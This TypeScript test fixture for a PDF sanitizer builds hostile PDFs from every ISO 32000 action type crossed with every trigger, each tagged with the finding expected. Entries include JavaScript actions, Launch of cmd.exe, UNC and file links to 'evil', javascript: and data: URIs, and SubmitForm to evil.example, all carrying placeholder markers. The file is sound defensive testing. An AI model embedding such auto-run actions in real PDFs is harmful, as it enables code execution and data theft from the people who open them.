import type { FindingKind } from '../../../../sanitizer/findings.ts'
import { bodies, file, flated, hex, MARKER, octal, type Parts, SCRIPT, utf16 } from '../pdf.ts'
import type { HostilePdf } from '../pdf-hostile.ts'

/** An action dictionary without its brackets; where it needs objects of its own they are 30 and up. */
interface Action {
  readonly syntax: string
  readonly seen: FindingKind
  readonly objects?: readonly string[]
}

const rendition = `/OP 0/AN 3 0 R/R<</S/MR/C<</S/MCD/CT(video/mp4)/D<</Type/Filespec/F(${MARKER}.mp4)>>>>>>`

/** ISO 32000-2, table 201, with what each is known for; GoTo inside the document is the one that may stay. */
export const actions: Readonly<Record<string, Action>> = {
  'JavaScript as a string': { seen: 'javascript', syntax: `/S/JavaScript/JS(${SCRIPT})` },
  'JavaScript as a stream': { seen: 'javascript', syntax: '/S/JavaScript/JS 30 0 R', objects: [flated('', SCRIPT)] },
  'JavaScript in UTF-16': { seen: 'javascript', syntax: `/S/JavaScript/JS${utf16(SCRIPT)}` },
  Launch: { seen: 'launch-action', syntax: `/S/Launch/F(\\\\\\\\evil\\\\${MARKER}.exe)/NewWindow true` },
  'Launch with /Win': { seen: 'launch-action', syntax: `/S/Launch/Win<</F(cmd.exe)/P(/c ${MARKER})/O(print)>>` },
  GoToR: { seen: 'external-reference', syntax: `/S/GoToR/F(\\\\\\\\evil\\\\${MARKER})/D[0/Fit]` },
  GoToE: { seen: 'external-reference', syntax: `/S/GoToE/F(\\\\\\\\evil\\\\${MARKER})/D[0/Fit]/T<</R/C/N(x)>>` },
  GoTo3DView: { seen: 'multimedia', syntax: `/S/GoTo3DView/TA 3 0 R/V(${MARKER})` },
  GoToDp: { seen: 'action', syntax: `/S/GoToDp/Dp<</Type/DPart/X(${MARKER})>>` },
  'Thread of another file': { seen: 'action', syntax: `/S/Thread/F(${MARKER}.pdf)/D 0` },
  'URI: javascript': { seen: 'unsafe-link', syntax: `/S/URI/URI(javascript:fetch${MARKER})` },
  'URI: file': { seen: 'unsafe-link', syntax: `/S/URI/URI(file://evil/share/${MARKER})` },
  'URI: settings handler': { seen: 'unsafe-link', syntax: `/S/URI/URI(ms-settings:${MARKER})/IsMap true` },
  'URI: data': { seen: 'unsafe-link', syntax: `/S/URI/URI${hex(`data:text/html,<script>${MARKER}</script>`)}` },
  'URI with line ends': { seen: 'unsafe-link', syntax: `/S/URI/URI${octal(`https://a.example/\r\n${MARKER}`)}` },
  SubmitForm: { seen: 'action', syntax: `/S/SubmitForm/F<</FS/URL/F(http://evil.example/${MARKER})>>/Flags 4` },
  ImportData: { seen: 'action', syntax: `/S/ImportData/F(${MARKER}.fdf)` },
  ResetForm: { seen: 'action', syntax: `/S/ResetForm/Fields[(${MARKER})]` },
  Hide: { seen: 'action', syntax: `/S/Hide/T(${MARKER})/H true` },
  'Named: Print': { seen: 'action', syntax: `/S/Named/N/Print/X(${MARKER})` },
  'Named: SaveAs': { seen: 'action', syntax: `/S/Named/N/SaveAs/X(${MARKER})` },
  SetOCGState: { seen: 'action', syntax: '/S/SetOCGState/State[/Toggle 30 0 R]', objects: [`<</Type/OCG/Name(${MARKER})>>`] },
  Trans: { seen: 'action', syntax: `/S/Trans/Trans<</S/Fly/X(${MARKER})>>` },
  Rendition: { seen: 'multimedia', syntax: `/S/Rendition${rendition}` },
  'Rendition with a script': { seen: 'multimedia', syntax: `/S/Rendition/JS(${SCRIPT})${rendition}` },
  RichMediaExecute: { seen: 'multimedia', syntax: `/S/RichMediaExecute/TA 3 0 R/CMD<</C(${MARKER})/A[(${MARKER})]>>` },
  Movie: { seen: 'multimedia', syntax: `/S/Movie/T(${MARKER})/Operation/Play` },
  Sound: { seen: 'multimedia', syntax: '/S/Sound/Sound 30 0 R/Mix true', objects: [flated('/Type/Sound/R 8000', MARKER)] },
  'a kind that does not exist': { seen: 'unknown', syntax: `/S/FormatDisk/Drive(${MARKER})` },
}

const annotation = (entries: string): Parts => ({ page: `/Annots[<</Type/Annot/Rect[10 10 90 90]${entries}>>]` })
const widget = (entries: string, field = ''): Parts => ({
  catalog: '/AcroForm<</Fields[10 0 R]>>',
  page: '/Annots[11 0 R]',
  objects: [`<</FT/Tx/T(total)/Kids[11 0 R]${field}>>`, `<</Type/Annot/Subtype/Widget/Parent 10 0 R/Rect[10 10 90 30]${entries}>>`],
})
const each = (keys: string, action: string) =>
  `/AA<<${keys
    .split(' ')
    .map((key) => `/${key}${action}`)
    .join('')}>>`
const chain = (length: number, action: string): string =>
  length === 0 ? action : `<</S/Named/N/NextPage/Next${chain(length - 1, action)}>>`
const outline = (depth: number, action: string): Parts => ({
  catalog: '/Outlines 10 0 R',
  objects: Array.from({ length: depth + 1 }, (_, level) => {
    const below = level < depth ? `/First ${11 + level} 0 R/Last ${11 + level} 0 R/Count 1` : ''
    return level === 0
      ? `<</Type/Outlines${below}>>`
      : `<</Title(Chapter)/Parent ${9 + level} 0 R${below}${level === depth ? `/A${action}` : ''}>>`
  }),
})

/** Where a reader starts an action (12.6.3 and the keys that lead to one); each gets every action of the table. */
export const triggers: Readonly<Record<string, (action: string) => Parts>> = {
  'opening the document': (action) => ({ catalog: `/OpenAction${action}` }),
  'closing, saving, printing the document': (action) => ({ catalog: each('WC WS DS WP DP', action) }),
  'opening and closing a page': (action) => ({ page: each('O C', action) }),
  'the page tree': (action) => ({ pages: `<</Type/Pages/Count 1/Kids[3 0 R]${each('O C', action)}>>` }),
  'an outline at level 1': (action) => outline(1, action),
  'an outline at level 2': (action) => outline(2, action),
  'an outline at level 5': (action) => outline(5, action),
  'a link': (action) => annotation(`/Subtype/Link/A${action}`),
  'the path action of a link': (action) => annotation(`/Subtype/Link/PA${action}`),
  'the pointer over an annotation': (action) => annotation(`/Subtype/Square${each('E X D U Fo Bl PO PC PV PI', action)}`),
  'a button': (action) => widget(`/A${action}`),
  'keystroke, format, validate, calculate': (action) => widget('', each('K F V C', action)),
  'a field seen by its widget': (action) => widget(each('E X D U Fo Bl PO PC PV PI', action)),
  'the names tree of scripts': (action) => ({ catalog: `/Names<</JavaScript<</Names[(a)${action}]>>>>` }),
  'a kid of a kid of the names tree': (action) => ({
    catalog: '/Names<</JavaScript<</Kids[10 0 R]>>>>',
    objects: ['<</Limits[(a)(a)]/Kids[11 0 R]>>', `<</Limits[(a)(a)]/Names[(a)${action}]>>`],
  }),
  'a named destination': (action) => ({ catalog: `/Names<</Dests<</Names[(a)${action}]>>>>/Dests<</b${action}>>` }),
  'the end of a /Next chain': (action) => annotation(`/Subtype/Link/A${chain(40, action)}`),
  'an array in /Next': (action) => ({ catalog: `/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/NextPage>>${action}]>>` }),
  'presentation steps': (action) => ({ page: `/PresSteps<</Type/NavNode/NA${action}/PA${action}>>` }),
}

/** The whole matrix, by trigger. */
export const triggered: Readonly<Record<string, readonly HostilePdf[]>> = Object.fromEntries(
  Object.entries(triggers).map(([place, parts]) => [
    place,
    Object.entries(actions).map(
      ([name, { syntax, seen, objects }]): HostilePdf => ({
        name,
        seen: [seen],
        bytes: () =>
          file(new Map([...bodies(parts(`<<${syntax}>>`)), ...(objects ?? []).map((body, index) => [30 + index, body] as const)])),
      }),
    ),
  ]),
)
